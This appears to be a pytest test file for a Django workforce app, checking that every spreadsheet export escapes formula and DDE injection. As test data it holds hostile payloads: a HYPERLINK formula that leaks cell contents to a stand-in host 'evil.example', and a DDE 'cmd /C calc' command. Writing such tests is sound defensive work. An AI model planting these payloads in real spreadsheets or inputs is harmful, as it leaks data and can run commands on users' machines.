"""No spreadsheet the service writes runs a formula (spec section 6).

Text that a spreadsheet reads as a formula or a DDE command (starting with =, +, -, @, a tab or a carriage return)
is escaped by core.exports.xlsx.escape_text: a leading apostrophe, stored as a text cell. These tests read every
written workbook back with openpyxl and check that no cell is a formula and no text cell starts with one of those
characters: first the two write paths (write_workbook and xlsx_response) directly, then every export in the registry
(core.exports.registry, including the CPD and careers exports present when the tests run) and the other workbooks
(turnover, census, agency return, import problem report), downloaded end to end with a worker called
"=HYPERLINK(...)".
"""

from __future__ import annotations

import datetime as dt
import importlib
import io
import pkgutil
from collections.abc import Iterator
from decimal import Decimal
from typing import Any

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import load_workbook
from openpyxl.workbook import Workbook

from core.exports.registry import all_exports
from core.exports.xlsx import FORMULA_PREFIXES, Sheet, escape_text, write_workbook, xlsx_response
from tests.conftest import Cast
from tests.workforce.factories import AssignmentFactory, CaseloadRecordFactory, TeamFactory, WorkerFactory
from workforce.codes import Contract, LeavingReason

HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Click me")'
DANGEROUS = [HYPERLINK, "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0"]
SAFE = ["Sam Patel", "a=b", "1+1", "O'Brien", "", " =leading space is not a formula"]


def _book(content: bytes) -> Workbook:
    return load_workbook(io.BytesIO(content))  # not read-only: write-only files have no dimensions


def _response_book(response: Any) -> Workbook:
    assert response.status_code == 200, getattr(response, "content", b"")[:500]
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return _book(body)


def _cells(book: Workbook) -> Iterator[Any]:
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            yield from row


def assert_inert(book: Workbook) -> list[str]:
    """No formula cell, and no text cell a spreadsheet would run; returns every text value for further checks."""
    texts = []
    for cell in _cells(book):
        where = f"{cell.parent.title}!{cell.coordinate}"
        assert cell.data_type != "f", f"{where} is a formula: {cell.value!r}"
        if isinstance(cell.value, str):
            assert not cell.value.startswith(FORMULA_PREFIXES), f"{where} would run as a formula: {cell.value!r}"
            texts.append(cell.value)
    return texts


# --- The write paths ---------------------------------------------------------------------------------------


@pytest.mark.parametrize("value", DANGEROUS)
def test_escape_text_puts_an_apostrophe_before_a_formula(value: str) -> None:
    assert escape_text(value) == "'" + value


@pytest.mark.parametrize("value", SAFE)
def test_escape_text_leaves_other_text_alone(value: str) -> None:
    assert escape_text(value) == value


def test_write_workbook_escapes_text_cells_and_headers() -> None:
    target = io.BytesIO()
    write_workbook(
        [
            Sheet(title="=Sheet", headers=["Name", *DANGEROUS], rows=[["row", *DANGEROUS], *([v] for v in DANGEROUS)]),
            Sheet(title="Second", headers=["Safe"], rows=[[v] for v in SAFE]),
        ],
        target,
    )
    book = _book(target.getvalue())
    assert_inert(book)
    first = book.worksheets[0]
    assert [c.value for c in first[1]] == ["Name", *("'" + v for v in DANGEROUS)]
    assert [c.value for c in first[2]] == ["row", *("'" + v for v in DANGEROUS)]
    assert [first.cell(row=r, column=1).value for r in range(3, 3 + len(DANGEROUS))] == ["'" + v for v in DANGEROUS]
    assert all(c.data_type == "s" for row in first.iter_rows() for c in row if c.value is not None)
    second = book.worksheets[1]
    assert [second.cell(row=r, column=1).value for r in range(2, 2 + len(SAFE))] == [v or None for v in SAFE]


def test_numbers_and_dates_stay_numbers_and_dates_even_when_negative() -> None:
    target = io.BytesIO()
    write_workbook(
        [
            Sheet(
                title="Numbers",
                headers=["int", "decimal", "date", "flag"],
                rows=[[-5, Decimal("-1.5"), dt.date(2025, 9, 30), True]],
            )
        ],
        target,
    )
    row = list(_book(target.getvalue()).active.iter_rows(min_row=2, values_only=True))[0]
    assert row == (-5, -1.5, dt.datetime(2025, 9, 30), "Yes")


def test_xlsx_response_escapes_too() -> None:
    response = xlsx_response("Anything", [Sheet(title="S", headers=["h"], rows=[[v] for v in DANGEROUS])])
    texts = assert_inert(_response_book(response))
    assert texts[1:] == ["'" + v for v in DANGEROUS]


# --- Every export, end to end --------------------------------------------------------------------------------

EVIL_FIRST = HYPERLINK
EVIL_LAST = "+SUM(1,2)"
EVIL_TEAM = "@Evil team"


def _register_every_export() -> None:
    """Exports register when their module is imported; import every module of the export packages."""
    for package_name in ("workforce.exports", "cpd.exports", "careers.exports"):
        package = importlib.import_module(package_name)
        for module in pkgutil.iter_modules(package.__path__):
            importlib.import_module(f"{package_name}.{module.name}")


@pytest.fixture
def evil(cast: Cast) -> Cast:
    """Workers and a team whose names are formulas: two permanent in post (one named with a tab and a carriage
    return), one agency in post, one leaver in 2025."""
    team = TeamFactory(authority=cast.authority, service_area=cast.safeguarding, code="EV", name=EVIL_TEAM)
    start = dt.date(2022, 4, 4)
    in_post = WorkerFactory(authority=cast.authority, worker_id="E001", first_name=EVIL_FIRST, last_name=EVIL_LAST)
    AssignmentFactory(worker=in_post, team=team, start_date=start, job_title="-1+1")
    CaseloadRecordFactory(worker=in_post, date=dt.date.today().replace(day=1), cases=12)
    agency = WorkerFactory(authority=cast.authority, worker_id="E002", first_name="-Agency", last_name=EVIL_LAST)
    AssignmentFactory(worker=agency, team=team, start_date=start, contract=Contract.AGENCY)
    leaver = WorkerFactory(authority=cast.authority, worker_id="E003", first_name=EVIL_FIRST, last_name="@Leaver")
    AssignmentFactory(
        worker=leaver, team=team, start_date=start, end_date=dt.date(2025, 6, 30), leaving_reason=LeavingReason.OTHER
    )
    controls = WorkerFactory(authority=cast.authority, worker_id="E004", first_name="\t=TAB()", last_name="\r=CR()")
    AssignmentFactory(worker=controls, team=team, start_date=start)
    return cast


def _user_allowed(export: Any, cast: Cast) -> Any:
    for role in ("administrator", "workforce_officer", "service_manager", "team_manager", "social_worker"):
        if export.allowed(getattr(cast, role)):
            return getattr(cast, role)
    return None


@pytest.mark.django_db
def test_every_registered_export_writes_no_formula(evil: Cast, client_for) -> None:  # noqa: ANN001
    _register_every_export()
    exports = all_exports()
    assert {"staff-list", "team-caseloads", "agency-compliance"} <= set(exports)
    escaped_somewhere = {}
    for export_id, export in sorted(exports.items()):
        user = _user_allowed(export, evil)
        assert user is not None, f"no role of the cast may download {export_id}"
        response = client_for(user).get(reverse("core:export_download", kwargs={"export_id": export_id}))
        texts = assert_inert(_response_book(response))
        escaped_somewhere[export_id] = any(t in {"'" + EVIL_FIRST, "'" + EVIL_LAST, "'" + EVIL_TEAM} for t in texts)
    for export_id in ("staff-list", "agency-compliance"):
        assert escaped_somewhere[export_id], f"{export_id} shows the worker, escaped"


@pytest.mark.django_db
def test_the_staff_list_export_escapes_the_workers_name_and_team(evil: Cast, client_for) -> None:  # noqa: ANN001
    response = client_for(evil.workforce_officer).get(
        reverse("core:export_download", kwargs={"export_id": "staff-list"})
    )
    texts = assert_inert(_response_book(response))
    assert {"'" + EVIL_FIRST, "'" + EVIL_LAST, "'-Agency", "'" + EVIL_TEAM} <= set(texts), texts
    assert {"'\t=TAB()", "'\r=CR()"} & set(texts) or any(t.startswith("'\t=TAB()") for t in texts), texts


@pytest.mark.django_db
def test_the_team_caseloads_export_escapes_the_workers_name(evil: Cast, client_for) -> None:  # noqa: ANN001
    url = reverse("core:export_download", kwargs={"export_id": "team-caseloads"})
    team = evil.children_in_care.__class__.objects.get(code="EV")
    texts = assert_inert(_response_book(client_for(evil.administrator).get(url, {"team": team.pk})))
    assert any(t.startswith("'=HYPERLINK") or t.startswith("'+SUM") for t in texts), texts


@pytest.mark.django_db
def test_the_dashboard_exports_write_no_formula(evil: Cast, client_for) -> None:  # noqa: ANN001
    client = client_for(evil.workforce_officer)
    for export_id in ("dashboard-trends", "dashboard-teams", "dashboard-service-areas", "dashboard-summary"):
        response = client.get(reverse("core:export_download", kwargs={"export_id": export_id}))
        assert_inert(_response_book(response))


@pytest.mark.django_db
def test_the_turnover_workbook_escapes_the_leavers_name(evil: Cast, client_for) -> None:  # noqa: ANN001
    response = client_for(evil.workforce_officer).get(
        reverse("workforce:turnover_download"), {"as_at": "2025-09-30", "scope": "authority"}
    )
    texts = assert_inert(_response_book(response))
    assert f"'{EVIL_FIRST} @Leaver" in texts, "the leaver's name, escaped"
    assert "'" + EVIL_TEAM in texts, "the team's name, escaped"


@pytest.mark.django_db
def test_the_census_return_writes_no_formula(evil: Cast, client_for) -> None:  # noqa: ANN001
    response = client_for(evil.workforce_officer).get(reverse("workforce:census_download"), {"year": "2025"})
    assert_inert(_response_book(response))


@pytest.mark.django_db
def test_the_agency_return_escapes_the_agency_workers_name(evil: Cast, client_for) -> None:  # noqa: ANN001
    response = client_for(evil.workforce_officer).get(
        reverse("workforce:agency_return"), {"year": "2025", "quarter": "3"}
    )
    assert_inert(_response_book(response))


@pytest.mark.django_db
def test_the_import_problem_report_escapes_the_values_it_quotes(cast: Cast, client_for, settings, tmp_path) -> None:  # noqa: ANN001
    from workforce.models import ImportRun

    settings.MEDIA_ROOT = tmp_path / "media"
    csv_text = (
        "worker_id,first_name,last_name,swe_registration,team_code,team_name,role,contract,fte,start_date\n"
        f'N001,"{HYPERLINK.replace(chr(34), chr(34) * 2)}",Owens,SW200001,FD,Front Door,case_holder,permanent,'
        "=1+1,2024-04-01\n"
        "N002,Olu,Ade,SW200002,FD,Front Door,case_holder,permanent,1,@2024-04-01\n"
    )
    client = client_for(cast.workforce_officer)
    client.post(
        reverse("workforce:import_upload"),
        {"kind": "staff", "file": SimpleUploadedFile("staff.csv", csv_text.encode())},
        follow=True,
    )
    run = ImportRun.objects.order_by("-pk").first()
    assert run is not None
    assert run.error_count >= 2
    texts = assert_inert(_response_book(client.get(reverse("workforce:import_report", kwargs={"pk": run.pk}))))
    assert "'=1+1" in texts
    assert "'@2024-04-01" in texts
